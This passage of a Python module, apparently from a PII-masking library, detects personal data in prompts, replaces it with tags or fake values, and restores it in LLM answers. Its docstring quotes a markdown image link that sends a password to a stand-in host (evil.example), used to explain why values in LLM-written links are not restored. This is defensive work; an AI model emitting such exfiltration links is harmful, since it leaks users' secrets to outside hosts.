"""Mask PII in a prompt before it reaches an LLM, and restore the values in the answer.

``Masker.detect`` asks the fine-tuned model, token by token, "is this PII?": a token is PII when
its PII-ness, 1 - P(O), reaches the threshold (the best non-O class names it), so a token the
model splits between DATE and DOB is still masked. Model spans (sliding windows: long texts are
never truncated) are merged with deterministic recognizers for structured secrets; overlaps are
resolved by one rule (``recognizers.resolve_overlaps``): the longer span wins, then the higher
score, then a rule span over a model span. Identifiers in code (``psycopg2``, ``conn``) stay
readable; every other occurrence of a detected value is masked too (of a value the model found,
when it flagged at least a quarter of its occurrences: see ``repeats``). The threshold is chosen on
real rows by notebook 06 and saved beside the model (``masking.json``); ``from_pretrained`` reads
it, explicit arguments override it.

Styles of ``mask``:

- ``"[MASKED]"``: every value becomes ``[MASKED]`` (restored in order of appearance);
- ``"[LABEL]"``: ``[EMAIL]``, ``[FIRSTNAME]``... (restored in order, per label);
- ``"[LABEL_n]"``: ``[EMAIL_1]``; the same value gets the same tag everywhere in the text;
- ``"fake"``: a format-preserving fake value of the same class (same value, same fake).

The round trip is exact: ``unmask(res.masked_text, res.mapping) == text`` for every text. Tags
are chosen so that nothing already in the prompt reads as one of them (a prompt holding
``[EMAIL_1]`` or ``{{ email_1 }}`` gets ``[EMAIL_2]``), a value written in brackets
(``[40.7,-74.0]``) is replaced brackets and all, and the masker checks the result before
returning it.

``unmask(answer, mapping)`` puts the original values back in one pass, also where the LLM
repeated a tag, changed its case or spacing, escaped or doubled its brackets or wrote it in
braces or angle brackets; each tag is restored once (a restored value is never read again). It
never restores a value inside a URL or a markdown link target the LLM wrote (``![x](https://
evil.example/?p=[PASSWORD_1])`` keeps the tag), unless the same URL was in the masked prompt or
``restore_in_links=True``.

Bad input gets one error type, ``InputError`` (a ``TypeError`` and a ``ValueError``): text that
is not a ``str``, text over ``max_chars``, a malformed mapping. Characters a tokenizer cannot
encode (lone surrogates) are accepted and kept.
"""

from __future__ import annotations

import bisect
import json
import random
import re
import string
import threading
import unicodedata
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from ..core import recognizers
from ..core.recognizers import CodeContext, resolve_overlaps
from ..core.spans import STYLES, Span
from ..core.taxonomy import CLASSES
from ..core.values import ValueFactory

DEFAULT_THRESHOLD = 0.5  # PII-ness; used when neither an argument nor masking.json gives one
MASKING_FILE = "masking.json"
DECISIONS = ("pii", "argmax")


class InputError(TypeError, ValueError):
    """Input piimask cannot take: not text, over the size limit, or a malformed mapping.

    A subclass of both ``TypeError`` and ``ValueError``, so callers catching either get it."""


def check_text(text, max_chars: int | None = None, what: str = "text") -> str:
    """``text`` if it is a ``str`` within ``max_chars`` characters, else ``InputError``."""
    if not isinstance(text, str):
        hint = "; decode it first (UTF-8)" if isinstance(text, (bytes, bytearray)) else ""
        raise InputError(f"{what} must be a str, not {type(text).__name__}{hint}")
    if max_chars is not None and len(text) > max_chars:
        raise InputError(
            f"{what} is {len(text):,} characters; the limit is {max_chars:,} "
            "(raise it with max_chars, --max-chars or PIIMASK_MAX_CHARS)"
        )
    return text


@dataclass
class MaskResult:
    masked_text: str
    entities: list[dict]
    mapping: list[dict] = field(default_factory=list)  # [{tag, value, label}] in order of appearance
    style: str = "[LABEL_n]"

    def to_dict(self, with_mapping: bool = True) -> dict:
        d = {"masked_text": self.masked_text, "entities": self.entities, "style": self.style}
        if with_mapping:
            d["mapping"] = self.mapping
        return d


# -- the threshold saved beside a model --------------------------------------------------------


def load_masking_config(model_dir: str | Path) -> dict:
    """``<model_dir>/masking.json`` ({score_threshold, class_thresholds, decision, ...}), or {}."""
    path = Path(model_dir) / MASKING_FILE
    if not path.is_file():
        return {}
    try:
        data = json.loads(path.read_text(encoding="utf-8"))
    except json.JSONDecodeError as exc:
        raise ValueError(f"{path} is not valid JSON ({exc.msg}); rerun notebook 06 or delete it") from None
    if not isinstance(data, dict):
        raise ValueError(f"{path} must hold a JSON object; rerun notebook 06 or delete it")
    return data


def save_masking_config(model_dir: str | Path, config: dict) -> Path:
    """Write the masking choice (at least ``score_threshold``) beside the model."""
    t = config.get("score_threshold")
    if not isinstance(t, (int, float)) or not 0 < t <= 1:
        raise ValueError(f"score_threshold must be a number in (0, 1], not {t!r}")
    path = Path(model_dir) / MASKING_FILE
    path.write_text(json.dumps(config, indent=1, default=str), encoding="utf-8")
    return path


def saved_params(model_dir: str | Path) -> dict:
    """The ``params.yaml`` saved beside a model as written ({} without one): a key a model from
    before it existed lacks is absent, not filled in with today's default."""
    import yaml

    path = Path(model_dir) / "params.yaml"
    return (yaml.safe_load(path.read_text()) or {}) if path.is_file() else {}


def run_params(model_dir: str | Path, saved: dict | None = None) -> dict:
    """The params of the run that trained ``model_dir`` (its ``params.yaml``, or ``saved`` when
    already read), over the defaults of params/base.yaml: the runtime uses the windows and
    settings the model was evaluated with."""
    from ..core.config import DEFAULTS

    saved = saved_params(model_dir) if saved is None else saved
    return {**DEFAULTS, **{k: v for k, v in saved.items() if k in DEFAULTS}}


# the names a Masker gives the entities of a model trained with ``settle_dates``
DATES_BY_FORM = {"DOB": "DATE"}


class Masker:
    """Detect and mask PII with a token-classification model plus deterministic recognizers.

    ``score_threshold``: the PII-ness a token needs to be masked (``decision="pii"``, default
    ``DEFAULT_THRESHOLD``); ``class_thresholds`` overrides it per best class. ``decision="argmax"``
    masks what the argmax labels say instead (the raw tagger; no threshold). ``max_chars`` limits
    the input size (``InputError`` past it).
    ``label_names`` renames the model's classes in what it returns and in its tags
    (``{"DOB": "DATE"}``).
    """

    def __init__(
        self,
        tagger=None,
        score_threshold: float | None = None,
        class_thresholds: dict | None = None,
        use_recognizers: bool = True,
        seed: int = 0,
        decision: str = "pii",
        max_chars: int | None = None,
        keep_code_identifiers: bool = True,
        mask_repeats: bool = True,
        label_names: dict | None = None,
    ):
        if decision not in DECISIONS:
            raise ValueError(f"decision must be one of {DECISIONS}, not {decision!r}")
        self.tagger = tagger
        self.score_threshold = DEFAULT_THRESHOLD if score_threshold is None else float(score_threshold)
        self.class_thresholds = dict(class_thresholds or {})
        self.use_recognizers = use_recognizers
        self.seed = seed
        self.decision = decision
        self.max_chars = max_chars
        self.keep_code_identifiers = keep_code_identifiers
        self.mask_repeats = mask_repeats
        self.label_names = dict(label_names or {})

    @classmethod
    def from_pretrained(
        cls,
        model: str | Path,
        window: int | None = None,
        stride: int | None = None,
        batch_size: int = 32,
        int8: bool = False,
        allow_hub: bool = False,
        score_threshold: float | None = None,
        class_thresholds: dict | None = None,
        decision: str | None = None,
        runtime: str = "torch",
        fast: bool = False,
        **kw,
    ) -> Masker:
        """A Masker over a saved model folder (a hub id only with ``allow_hub=True``).

        ``fast``: ONNX Runtime with int8 weights (``runtime="onnx", int8=True``), the quick CPU
        path for long inputs; needs ``piimask[fast]``. The model is exported once, beside it.

        The threshold, per-class thresholds and decision come from the folder's ``masking.json``
        (written by notebook 06), the windows from the run's ``params.yaml`` saved beside the model,
        unless given here; else the defaults of params/base.yaml. A model whose corpus settled dates
        by their form (``settle_dates`` in that params.yaml) answers DOB for any full calendar date:
        its DOB entities are named DATE (``label_names``), so a due date is never tagged a birth."""
        from .predict import TokenTagger, local_model

        name = local_model(model, allow_hub)
        saved = load_masking_config(name) if Path(name).is_dir() else {}
        trained = saved_params(name)
        run = run_params(name, trained)
        window = window or run["window_tokens"]
        stride = run["window_stride"] if stride is None else stride
        if fast:
            runtime, int8 = "onnx", True
        tagger = TokenTagger(
            name, window=window, stride=stride, batch_size=batch_size, int8=int8, runtime=runtime, allow_hub=allow_hub
        )
        kw.setdefault("label_names", DATES_BY_FORM if trained.get("settle_dates") else None)
        return cls(
            tagger,
            score_threshold=saved.get("score_threshold") if score_threshold is None else score_threshold,
            class_thresholds=saved.get("class_thresholds") if class_thresholds is None else class_thresholds,
            decision=decision or saved.get("decision", "pii"),
            **kw,
        )

    @classmethod
    def from_params(cls, params, model: str | Path | None = None, **kw) -> Masker:
        return cls.from_pretrained(
            model or params.model_dir,
            window=params.window_tokens,
            stride=params.window_stride,
            score_threshold=params.score_threshold,
            class_thresholds=params.class_thresholds or None,
            **kw,
        )

    # -- detection ------------------------------------------------------------------------------
    def threshold(self, label: str) -> float:
        return float(self.class_thresholds.get(label, self.score_threshold))

    def model_entities(self, tagged) -> list[dict]:
        """The model's spans for one tagged text, by this Masker's decision rule."""
        if tagged is None:
            return []
        if self.decision == "argmax":
            return tagged.entities()
        return tagged.entities(self.score_threshold, self.class_thresholds)

    def spans(self, text: str, tagged=None) -> list[dict]:
        """Entities of ``text`` given its tagging: model spans, recognizers, overlaps, repeats."""
        names = self.label_names
        model = [
            Span(e["start"], e["end"], names.get(e["label"], e["label"]), e["score"], "model")
            for e in self.model_entities(tagged)
        ]
        if self.keep_code_identifiers and model:
            code = CodeContext(text)
            model = [s for s in model if not code.is_identifier(*_trimmed(text, s.start, s.end, s.label))]
        spans = _join_neighbours(text, [_balance(text, _trim(text, s)) for s in model])
        spans += [_trim(text, s) for s in (recognizers.detect(text, resolve=False) if self.use_recognizers else [])]
        # a span with no letter or digit ("*", "-") is noise, not a value; a currency sign is a value
        spans = [s for s in spans if _has_alnum(text, s.start, s.end) or _is_currency(text, s.start, s.end)]
        kept = resolve_overlaps(spans)
        if self.mask_repeats:
            kept = sorted(kept + repeats(text, kept), key=lambda s: s.start)
        return [s.to_dict() for s in kept]

    def detect_many(self, texts: Sequence[str]) -> list[list[dict]]:
        """Entities {start, end, label, score, source} for many texts (one batched model pass)."""
        if isinstance(texts, (str, bytes)):
            raise InputError("detect_many takes a list of texts; use detect for one text")
        texts = [check_text(t, self.max_chars) for t in texts]
        todo = [i for i, t in enumerate(texts) if t]
        tagged = self.tagger.tag([texts[i] for i in todo]) if (self.tagger and todo) else [None] * len(todo)
        out: list[list[dict]] = [[] for _ in texts]
        for i, tg in zip(todo, tagged):
            out[i] = self.spans(texts[i], tg)
        return out

    def detect(self, text: str) -> list[dict]:
        return self.detect_many([check_text(text, self.max_chars)])[0]

    # -- masking --------------------------------------------------------------------------------
    def mask(self, text: str, style: str = "[LABEL_n]", entities: list[dict] | None = None) -> MaskResult:
        check_text(text, self.max_chars)
        _check_style(style)
        entities = self.detect(text) if entities is None else entities
        return mask_with(text, entities, style, seed=self.seed)

    def mask_many(self, texts: Sequence[str], style: str = "[LABEL_n]") -> list[MaskResult]:
        _check_style(style)
        return [mask_with(t, ents, style, seed=self.seed) for t, ents in zip(texts, self.detect_many(texts))]


def _check_style(style) -> None:
    if not isinstance(style, str) or style not in STYLES:
        raise InputError(f"unknown style {style!r}; choose one of {', '.join(STYLES)}")


_EDGE = frozenset(" \t\r\n'\"`()[]{}<>")
_TAIL = frozenset(",;:!?")
_CLOSE = {"(": ")", "[": "]", "{": "}", "<": ">"}
_OPEN = {v: k for k, v in _CLOSE.items()}


def _trimmed(text: str, a: int, b: int, label: str) -> tuple[int, int]:
    while a < b and text[a] in _EDGE:
        c = text[a]
        if c in _CLOSE and text.find(_CLOSE[c], a + 1, b) != -1:  # "(87)-8781": the bracket pairs inside
            break
        a += 1
    while b > a and (text[b - 1] in _EDGE or (text[b - 1] in _TAIL and label not in ("PASSWORD", "SECRET"))):
        c = text[b - 1]
        if c in _OPEN and text.rfind(_OPEN[c], a, b - 1) != -1:  # "... .NET CLR 1.6)": keep the pair
            break
        b -= 1
    return a, b


def _trim(text: str, s: Span) -> Span:
    """Drop whitespace, quotes and unpaired brackets from a span's edges, and trailing sentence
    punctuation (a quote the model took into an e-mail must stay in the prompt)."""
    a, b = _trimmed(text, s.start, s.end, s.label)
    return s if (a, b) == (s.start, s.end) else Span(a, b, s.label, s.score, s.source)


def _balance(text: str, s: Span) -> Span:
    """A model span that opens a bracket it does not close ("Opera/9.42 (X11; U") takes the
    closing bracket right after it: the value is written with its pair."""
    b = s.end
    for o, c in _CLOSE.items():
        while b < len(text) and text[b] == c and text.count(o, s.start, b) > text.count(c, s.start, b):
            b += 1
    return s if b == s.end else Span(s.start, b, s.label, s.score, s.source)


def _is_currency(text: str, a: int, b: int) -> bool:
    return b > a and all(unicodedata.category(text[i]) == "Sc" for i in range(a, b))


def _join_neighbours(text: str, spans: list[Span]) -> list[Span]:
    """Model spans of one class that only a space or a hyphen separates ("Port" "Norberto",
    "Basel" "Landschaft") become one value, so the separator is not left between two tags."""
    out: list[Span] = []
    for s in sorted(spans, key=lambda s: s.start):
        if out and out[-1].label == s.label and text[out[-1].end : s.start] in (" ", "-"):
            p = out[-1]
            n1, n2 = p.end - p.start, s.end - s.start
            out[-1] = Span(p.start, s.end, p.label, (p.score * n1 + s.score * n2) / (n1 + n2), p.source)
        else:
            out.append(s)
    return out


def _has_alnum(text: str, a: int, b: int) -> bool:
    for i in range(a, b):
        if text[i].isalnum():
            return True
    return False


_WORD = re.compile(r"[^\W_]+")


MIN_REPEAT_SUPPORT = 0.25


def repeats(text: str, spans: list[Span], min_support: float = MIN_REPEAT_SUPPORT) -> list[Span]:
    """Other occurrences of detected values (2+ characters), as spans of the same class.

    A value counts where it stands as a whole (not glued to a letter or digit on a side where the
    value itself ends in one) and overlaps no span. A value a rule found is masked everywhere; a
    value the model found, where the model flagged it in at least ``min_support`` of its
    occurrences: a name the model saw in one sentence of two is masked in both, but a word it
    flagged once among hundreds ("and" inside one company name) is a misfire, not a value.
    Linear: each word of the text is looked up once in an index of the values' first words, then
    one set lookup per value length."""
    label_of: dict[str, str] = {}
    found: dict[str, int] = {}  # value -> times detected
    by_rule: set[str] = set()
    index: dict[str, dict[int, dict[int, set[str]]]] = {}  # first word -> its offset -> length -> values
    for s in spans:
        value = text[s.start : s.end]
        m = _WORD.search(value) if len(value) >= 2 else None
        if m is None:
            continue
        found[value] = found.get(value, 0) + 1
        if s.source == "rule":
            by_rule.add(value)
        if value in label_of:
            continue
        label_of[value] = s.label
        index.setdefault(m.group(), {}).setdefault(m.start(), {}).setdefault(len(value), set()).add(value)
    if not index:
        return []
    by_word = {
        w: [(off, sorted(lengths.items(), reverse=True)) for off, lengths in offs.items()] for w, offs in index.items()
    }
    starts = [s.start for s in spans]
    ends = [s.end for s in spans]
    seen: dict[str, list[tuple[int, int]]] = {}  # value -> its occurrences not yet masked
    last_end, n = 0, len(text)
    for m in _WORD.finditer(text):
        groups = by_word.get(m.group())
        if not groups:
            continue
        hit = None
        for off, lengths in groups:
            a = m.start() - off
            if a < last_end or a < 0:
                continue
            for length, values in lengths:  # longest first
                b = a + length
                if b > n or text[a:b] not in values:
                    continue
                value = text[a:b]
                if value[0].isalnum() and a > 0 and text[a - 1].isalnum():
                    continue
                if value[-1].isalnum() and b < n and text[b].isalnum():
                    continue
                j = bisect.bisect_right(ends, a)
                if j < len(spans) and starts[j] < b:  # overlaps a detected span (or is one)
                    continue
                hit = (a, b, value)
                break
            if hit:
                break
        if hit:
            seen.setdefault(hit[2], []).append((hit[0], hit[1]))
            last_end = hit[1]
    out = [
        Span(a, b, label_of[value], 1.0, "repeat")
        for value, occ in seen.items()
        if value in by_rule or found[value] >= min_support * (found[value] + len(occ))
        for a, b in occ
    ]
    return sorted(out, key=lambda s: s.start)


# -- tags ---------------------------------------------------------------------------------------
# A tag as an LLM may echo it: [EMAIL_1], [ email 1 ], \[EMAIL_1\], [[EMAIL_1]], {EMAIL_1},
# {{ email_1 }}, <email1>. Brackets must pair. Its key is the inner text, upper case, without
# spaces, "_" or "-" ("EMAIL1"), so every variant of a tag has the tag's key.
_INNER = r"[A-Za-z][A-Za-z0-9]{0,39}(?:[ _-]{1,2}[A-Za-z0-9]{1,12}){0,3}"
_FORMS = ((r"\\\[", r"\\\]"), (r"\[\[", r"\]\]"), (r"\[", r"\]"), (r"\{\{", r"\}\}"), (r"\{", r"\}"), (r"<", r">"))
TAG_PATTERN = "|".join(rf"{o}[ \t]{{0,3}}(?P<i{k}>{_INNER})[ \t]{{0,3}}{c}" for k, (o, c) in enumerate(_FORMS))
TAG = re.compile(TAG_PATTERN)
_SEP = re.compile(r"[ \t_-]")
# where a restored value could leave the answer: a URL (any scheme, //host or www.) and a markdown
# link target. Both end before trailing sentence punctuation.
CONTEXT_PATTERN = (
    r"(?:\b[A-Za-z][A-Za-z0-9+.-]{0,15}://|(?<![\w/:])//(?=[\w-]+\.)|\bwww\.)"
    r"(?:[^\s<>\"'`()]*[^\s<>\"'`().,;:!?])?|(?<=\])\([^()\s]*\)"
)


_TAGS_INNER = re.compile(f"(?P<tag>{TAG_PATTERN})")
_TAGS_OUTER = re.compile(f"(?P<ctx>{CONTEXT_PATTERN})|(?P<tag>{TAG_PATTERN})")
_CONTEXTS = re.compile(f"(?P<ctx>{CONTEXT_PATTERN})")


def _key(inner: str) -> str:
    return _SEP.sub("", inner).upper()


def _tag_match_key(m: re.Match) -> str:
    for k in range(len(_FORMS)):
        g = m.group(f"i{k}")
        if g is not None:
            return _key(g)
    raise ValueError("no tag group matched")


def tag_key(tag: str) -> str | None:
    """The key of a bracketed tag (``"[ipv4_1]"`` -> ``"IPV41"``); None for a literal (fake) value."""
    m = TAG.fullmatch(tag)
    return _tag_match_key(m) if m else None


def _label_name(label: str) -> str:
    name = re.sub(r"[^A-Za-z0-9]", "", str(label)).upper()[:40]
    return name if name[:1].isalpha() else "PII" + name[:37]


def _trie(words: Iterable[str]) -> str:
    """One regex matching any of ``words`` (longest first at a position); a word that starts or
    ends with a letter or digit matches only where it is not glued to another one."""
    root: dict = {}
    for w in words:
        node = root
        for ch in w:
            node = node.setdefault(ch, {})
        node[""] = w

    def emit(node: dict) -> str:
        alts = []
        for ch in sorted(k for k in node if k):
            chain, child = [ch], node[ch]
            while len(child) == 1 and "" not in child:  # a chain without branches: one literal
                ((c2, child),) = child.items()
                chain.append(c2)
            alts.append(re.escape("".join(chain)) + emit(child))
        if "" in node:
            alts.append(r"(?![^\W_])" if node[""][-1].isalnum() else "")
        if len(alts) == 1:
            return alts[0]
        return "(?:" + "|".join(alts) + ")"

    parts = []
    alnum = {k: v for k, v in root.items() if k.isalnum()}
    other = {k: v for k, v in root.items() if not k.isalnum()}
    if alnum:
        parts.append(r"(?<![^\W_])" + emit(alnum))
    if other:
        parts.append(emit(other))
    return "|".join(parts)


def validate_mapping(mapping) -> list[dict]:
    """The mapping as a list of {tag, value, label?, contexts?} entries, or ``InputError`` naming
    the bad entry. Accepts a ``MaskResult``, a list, or a dict holding ``"mapping"``."""
    if isinstance(mapping, MaskResult):
        mapping = mapping.mapping
    if isinstance(mapping, dict):
        if "mapping" not in mapping:
            raise InputError(
                "the mapping must be a list of {tag, value, label} entries "
                "(or an object with a 'mapping' list, as `piimask mask --json` writes)"
            )
        mapping = mapping["mapping"]
    if not isinstance(mapping, (list, tuple)):
        raise InputError(f"the mapping must be a list of {{tag, value, label}} entries, not {type(mapping).__name__}")
    for i, m in enumerate(mapping):
        if not isinstance(m, dict):
            raise InputError(f"mapping entry {i} must be an object with 'tag' and 'value', not {type(m).__name__}")
        for k in ("tag", "value"):
            if not isinstance(m.get(k), str):
                raise InputError(f"mapping entry {i} needs a string {k!r}" + ("" if k in m else f" (it has no {k!r})"))
        if not m["tag"]:
            raise InputError(f"mapping entry {i} has an empty tag")
        if "label" in m and not isinstance(m["label"], (str, type(None))):
            raise InputError(f"mapping entry {i}: 'label' must be a string")
        ctx = m.get("contexts", [])
        if not isinstance(ctx, list) or not all(isinstance(c, str) for c in ctx):
            raise InputError(f"mapping entry {i}: 'contexts' must be a list of strings")
    return list(mapping)


class _Restorer:
    """The single pass of ``unmask``: link contexts, fake values and tag variants, leftmost first
    (a context before a fake before a tag where two start together), values looked up in dicts,
    shared tags restored in order. Tag and context patterns are compiled once for all mappings;
    a mapping's fakes become one trie pattern."""

    def __init__(self, mapping: Sequence[dict]):
        self.by_key: dict[str, list[str]] = {}
        self.by_fake: dict[str, list[str]] = {}
        self.allowed: set[str] = set()
        for m in mapping:
            key = tag_key(m["tag"])
            if key is not None:
                self.by_key.setdefault(key, []).append(m["value"])
            else:
                self.by_fake.setdefault(m["tag"], []).append(m["value"])
            self.allowed.update(m.get("contexts", ()))
        self.fakes = re.compile(f"(?P<fake>{_trie(self.by_fake)})") if self.by_fake else None
        self.outer = _TAGS_OUTER if self.by_key else _CONTEXTS
        self.inner = _TAGS_INNER if self.by_key else None

    def _scan(self, text: str, fixed: re.Pattern | None):
        """Matches of ``fixed`` and of the fakes, as one alternation would find them."""
        pos, n = 0, len(text)
        a = fixed.search(text) if fixed is not None else None
        b = self.fakes.search(text) if self.fakes is not None else None
        while a is not None or b is not None:
            if b is None or (
                a is not None and (a.start() < b.start() or (a.start() == b.start() and a.lastgroup == "ctx"))
            ):
                m = a
            else:
                m = b
            yield m
            pos = max(m.end(), m.start() + 1)
            if pos > n:
                return
            if a is not None and a.start() < pos:
                a = fixed.search(text, pos)
            if b is not None and b.start() < pos:
                b = self.fakes.search(text, pos)

    def _lookup(self, m: re.Match, cursor: dict) -> tuple[str | None, str | None]:
        """(value, id) of a fake or tag match; (None, None) when the mapping does not hold it (or
        a shared tag occurs more often than it was given out)."""
        if m.lastgroup == "fake":
            ident = m.group("fake")
            values = self.by_fake.get(ident)
        else:
            ident = _tag_match_key(m)
            values = self.by_key.get(ident)
        if not values:
            return None, None
        if len(values) == 1 or len(set(values)) == 1:
            return values[0], ident
        i = cursor.get(ident, 0)
        if i >= len(values):
            return None, None
        cursor[ident] = i + 1
        return values[i], ident

    def _restore(self, text: str, cursor: dict, fixed: re.Pattern | None, restore_in_links: bool) -> str:
        out, pos = [], 0
        for m in self._scan(text, fixed):
            out.append(text[pos : m.start()])
            pos = m.end()
            if m.lastgroup == "ctx":
                ctx = m.group()
                trial = dict(cursor)
                restored = self._restore(ctx, trial, self.inner, restore_in_links)
                if restored != ctx and (restore_in_links or ctx in self.allowed):
                    cursor.clear()
                    cursor.update(trial)
                    out.append(restored)
                else:
                    out.append(ctx)
                continue
            value = self._lookup(m, cursor)[0]
            out.append(m.group() if value is None else value)
        out.append(text[pos:])
        return "".join(out)

    def restore(self, text: str, restore_in_links: bool = False) -> str:
        if not (self.by_key or self.by_fake):
            return text
        return self._restore(text, {}, self.outer, restore_in_links)

    def matches(self, text: str) -> tuple[list[tuple[int, int, str]], dict[str, set[str]]]:
        """Read ``text`` as a masked prompt: where the pass restores (start, end, id), every
        context included, and for each context holding values the ids inside it."""
        found: list[tuple[int, int, str]] = []
        contexts: dict[str, set[str]] = {}
        cursor: dict = {}
        for m in self._scan(text, self.outer):
            if m.lastgroup == "ctx":
                for x in self._scan(m.group(), self.inner):
                    value, ident = self._lookup(x, cursor)
                    if value is not None:
                        found.append((m.start() + x.start(), m.start() + x.end(), ident))
                        contexts.setdefault(m.group(), set()).add(ident)
                continue
            value, ident = self._lookup(m, cursor)
            if value is not None:
                found.append((m.start(), m.end(), ident))
        return found, contexts


def unmask(answer: str, mapping, restore_in_links: bool = False) -> str:
    """Restore original values in an LLM answer.

    Unique tags (``[LABEL_n]``, fake values) are replaced wherever they occur, in any variant a
    model writes; shared tags (``[MASKED]``, ``[LABEL]``) in order of appearance (occurrences
    beyond the number of masked values are left as they are). Inside a URL or markdown link
    target the answer wrote, values are restored only when ``restore_in_links`` is true or the
    same URL was in the masked prompt. ``InputError`` for a non-text answer or a malformed mapping.
    """
    check_text(answer, what="the answer")
    return _Restorer(validate_mapping(mapping)).restore(answer, restore_in_links)


class _TagAllocator:
    """Tags whose keys are in neither the text that stays nor already given out."""

    def __init__(self, taken: set[str]):
        self.taken = set(taken)
        self.counters: dict[str, int] = {}

    def take(self, tag: str) -> bool:
        k = tag_key(tag)
        if k is not None and k in self.taken:
            return False
        if k is not None:
            self.taken.add(k)
        return True

    def numbered(self, label: str) -> str:
        name = _label_name(label)
        while True:
            n = self.counters.get(name, 0) + 1
            self.counters[name] = n
            tag = f"[{name}_{n}]"
            if self.take(tag):
                return tag

    def shared(self, base: str) -> str:
        name = _label_name(base)
        for suffix in ("", "_0", "_00", "_000"):
            if self.take(f"[{name}{suffix}]"):
                return f"[{name}{suffix}]"
        return self.numbered(name)


def _regions(text: str, entities: list[dict]) -> tuple[list[dict], list[tuple[int, int, str]]]:
    """The entities kept (sorted, no overlaps, in range) and the regions that replace them."""
    ents, last = [], 0
    for e in sorted(entities, key=lambda e: (e["start"], -e["end"])):
        s, t = int(e["start"]), int(e["end"])
        if 0 <= s < t <= len(text) and s >= last:
            ents.append(e)
            last = t
    # a value written in brackets ([john@x.com], [40.7,-74.0]) is replaced with its brackets, so
    # the tag is not read back as a doubled-bracket variant
    regions: list[tuple[int, int, str]] = []
    for i, e in enumerate(ents):
        a, b = int(e["start"]), int(e["end"])
        lo = regions[-1][1] if regions else 0
        hi = int(ents[i + 1]["start"]) if i + 1 < len(ents) else len(text)
        while a - 1 >= lo and b + 1 <= hi and text[a - 1] == "[" and text[b] == "]":
            a, b = a - 1, b + 1
        regions.append((a, b, str(e["label"])))
    return ents, regions


def replaced_spans(text: str, entities: list[dict]) -> list[Span]:
    """The text ``mask_with`` replaces for these entities (a value's enclosing brackets
    included): what the LLM does not see."""
    return [Span(a, b, label, 1.0, "mask") for a, b, label in _regions(text, entities)[1]]


def mask_with(text: str, entities: list[dict], style: str = "[LABEL_n]", seed: int = 0) -> MaskResult:
    """Replace each entity span of ``text`` according to ``style``; return the mapping to undo it.

    Overlapping or out-of-range entities are skipped (the earlier one is kept). Tags avoid every
    key the text that stays already holds; the result is then read back as ``unmask`` would read
    it, and a value whose tag (or fake) would be read anywhere else gets a new one, so that
    ``unmask(masked_text, mapping) == text`` always holds."""
    check_text(text)
    _check_style(style)
    ents, regions = _regions(text, entities)
    taken, cur = set(), 0
    for a, b, _ in regions + [(len(text), len(text), "")]:
        taken.update(_tag_match_key(m) for m in TAG.finditer(text, cur, a))
        cur = b
    tagger = _Tags(style, _TagAllocator(taken), _Faker(seed) if style == "fake" else None)
    for attempt in range(8):
        groups = [tagger.group(label, text[a:b]) for a, b, label in regions]
        tags = [tagger.tag(g, label, text[a:b], attempt) for g, (a, b, label) in zip(groups, regions)]
        masked, placed, mapping = _build(text, regions, tags, style)
        found, contexts = _Restorer(mapping).matches(masked)
        if found == placed:
            break
        bad = {ident for _, _, ident in set(found) ^ set(placed)}
        for g, (_p, _q, ident) in zip(groups, placed):
            if ident in bad:
                tagger.retag(g)
    else:
        raise RuntimeError("no tags found that restore this text exactly; please report it")
    for m in mapping:  # the prompt's own links may hold tags: those are restored in the answer
        ident = tag_key(m["tag"]) or m["tag"]
        ctx = sorted(c for c, ids in contexts.items() if ident in ids)
        if ctx:
            m["contexts"] = ctx
    return MaskResult(masked, ents, mapping, style)


class _Tags:
    """The tag of each value for one style, kept across attempts unless a value is re-tagged."""

    def __init__(self, style: str, alloc: _TagAllocator, faker):
        self.style, self.alloc, self.faker = style, alloc, faker
        self.tags: dict = {}
        self.fakes_used: set[str] = set()
        self.retagged: set = set()

    def group(self, label: str, value: str):
        """Values sharing one tag: all of them ([MASKED]), a label's ([LABEL]), one value's."""
        return {"[MASKED]": ("MASKED",), "[LABEL]": ("label", label)}.get(self.style, ("value", label, value))

    def tag(self, group, label: str, value: str, attempt: int) -> str:
        if group not in self.tags:
            if self.style == "[MASKED]":
                tag = self.alloc.shared("MASKED")
            elif self.style == "[LABEL]":
                tag = self.alloc.shared(label)
            elif self.style == "[LABEL_n]" or group in self.retagged and attempt >= 2:
                tag = self.alloc.numbered(label)
            else:  # a fake; a fake that reads as a tag must not clash with one
                tag = self.faker.fake_like(value, label, self.fakes_used)
                if tag_key(tag) is not None and not self.alloc.take(tag):
                    tag = self.alloc.numbered(label)
                self.fakes_used.add(tag)
            self.tags[group] = tag
        return self.tags[group]

    def retag(self, group) -> None:
        self.tags.pop(group, None)
        self.retagged.add(group)


def _build(text: str, regions, tags, style: str) -> tuple[str, list[tuple[int, int, str]], list[dict]]:
    """The masked text, where each tag sits (start, end, id) and the mapping."""
    out, placed, mapping, seen = [], [], [], set()
    cur = pos = 0
    for (a, b, label), tag in zip(regions, tags):
        out.append(text[cur:a])
        pos += a - cur
        out.append(tag)
        placed.append((pos, pos + len(tag), tag_key(tag) or tag))
        pos += len(tag)
        cur = b
        if style in ("[MASKED]", "[LABEL]") or tag not in seen:
            mapping.append({"tag": tag, "value": text[a:b], "label": label})
            seen.add(tag)
    out.append(text[cur:])
    return "".join(out), placed, mapping


class _Faker:
    """Format-preserving fake values: same class, and same shape where the class has no generator."""

    _generated = {
        "EMAIL",
        "IPV4",
        "IPV6",
        "IP",
        "MAC",
        "URL",
        "FIRSTNAME",
        "LASTNAME",
        "MIDDLENAME",
        "CITY",
        "STREET",
        "STATE",
        "COUNTY",
        "COMPANYNAME",
        "JOBTITLE",
        "JOBAREA",
        "JOBTYPE",
        "PREFIX",
        "IBAN",
        "CREDITCARDNUMBER",
        "VEHICLEVIN",
        "ETHEREUMADDRESS",
        "BITCOINADDRESS",
        "LITECOINADDRESS",
        "USERAGENT",
        "GENDER",
        "SEX",
        "EYECOLOR",
        "CURRENCY",
        "CURRENCYNAME",
        "CURRENCYCODE",
        "ACCOUNTNAME",
        "CREDITCARDISSUER",
        "ORDINALDIRECTION",
        "USERNAME",
    }

    def __init__(self, seed: int = 0):
        self.rng = random.Random(seed)
        self.seed = seed
        self._values = None

    @property
    def values(self) -> ValueFactory:
        if self._values is None:
            self._values = _value_factory(self.seed)
        return self._values

    def _shape(self, value: str) -> str:
        out = []
        for c in value:
            if c.isdigit():
                out.append(self.rng.choice(string.digits))
            elif c.isalpha() and c.isascii():
                out.append(self.rng.choice(string.ascii_uppercase if c.isupper() else string.ascii_lowercase))
            else:
                out.append(c)
        return "".join(out)

    def fake_like(self, value: str, label: str, taken: set[str]) -> str | None:
        for i in range(10):
